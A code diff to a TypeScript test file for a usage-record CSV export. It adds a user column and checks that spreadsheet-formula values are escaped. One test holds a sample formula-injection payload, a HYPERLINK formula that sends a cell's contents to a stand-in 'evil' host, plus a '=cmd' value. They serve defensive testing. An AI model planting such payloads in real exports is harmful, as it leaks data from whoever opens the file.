@@ -8,7 +8,7 @@ import { csvField, csvLine, dollarText } from '../../../src/spend/export';
 import { GatewayError } from '../../../src/contract/errors';
 
 const record = (over: Partial<UsageRecord> = {}): UsageRecord => ({
-  time: '2026-03-01T10:00:00.000Z', request_id: 'r1', key: 'alice', team: null, org: 'acme', model: 'm-1', protocol: 'chat', endpoint: 'chat',
+  time: '2026-03-01T10:00:00.000Z', request_id: 'r1', key: 'alice', team: null, org: 'acme', user: null, model: 'm-1', protocol: 'chat', endpoint: 'chat',
   status: 200, reason: null, prompt_tokens: 10, cached_tokens: 4, completion_tokens: 5, reasoning_tokens: 2, estimated: false, cost: 0.000012345, ...over,
 });
 
@@ -89,14 +89,14 @@ describe('the export', () => {
   });
 
   it('quotes a CSV field that needs it and leaves null fields empty', () => {
-    expect(csvLine(record({ model: 'a,"b"', reason: null, key: null }))).toBe('2026-03-01T10:00:00.000Z,r1,,,acme,"a,""b""",chat,chat,200,,10,4,5,2,false,0.000012345,,,,,,,,\n');
+    expect(csvLine(record({ model: 'a,"b"', reason: null, key: null }))).toBe('2026-03-01T10:00:00.000Z,r1,,,acme,,"a,""b""",chat,chat,200,,10,4,5,2,false,0.000012345,,,,,,,,\n');
   });
 
   it('writes a text field a spreadsheet would run as a formula as quoted text, in every text column', () => {
     for (const start of ['=', '+', '-', '@', '\t', '\r']) {
       expect(csvField(`${start}1+1`)).toBe(`"'${start}1+1"`);
-      expect(csvLine(record({ model: `${start}m`, request_id: `${start}r`, key: `${start}k`, team: `${start}t`, org: `${start}o` }))).toBe(
-        `2026-03-01T10:00:00.000Z,"'${start}r","'${start}k","'${start}t","'${start}o","'${start}m",chat,chat,200,,10,4,5,2,false,0.000012345,,,,,,,,\n`);
+      expect(csvLine(record({ model: `${start}m`, request_id: `${start}r`, key: `${start}k`, team: `${start}t`, org: `${start}o`, user: `${start}u` }))).toBe(
+        `2026-03-01T10:00:00.000Z,"'${start}r","'${start}k","'${start}t","'${start}o","'${start}u","'${start}m",chat,chat,200,,10,4,5,2,false,0.000012345,,,,,,,,\n`);
     }
     expect(csvField('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
     expect([csvField('a-b'), csvField(-1), csvField(false), csvField(null)]).toEqual(['a-b', '-1', 'false', '']);
@@ -105,7 +105,7 @@ describe('the export', () => {
   it('writes an MCP tool call\'s own fields at the end, its tool quoted as text when it could start a formula', () => {
     const call = record({ model: null, protocol: 'mcp', endpoint: 'tools/call', prompt_tokens: 0, cached_tokens: 0, completion_tokens: 0, reasoning_tokens: 0, cost: 0,
       server: 'github', tool: '=cmd', outcome: 'refused', reason: 'refused', duration_ms: 1.5, bytes_in: 120, bytes_out: 64 });
-    expect(csvLine(call)).toBe('2026-03-01T10:00:00.000Z,r1,alice,,acme,,mcp,tools/call,200,refused,0,0,0,0,false,0,github,"\'=cmd",refused,1.5,120,64,,\n');
+    expect(csvLine(call)).toBe('2026-03-01T10:00:00.000Z,r1,alice,,acme,,,mcp,tools/call,200,refused,0,0,0,0,false,0,github,"\'=cmd",refused,1.5,120,64,,\n');
   });
 
   it('writes an audio request\'s unit in the last columns: seconds for an upload, characters for speech', () => {
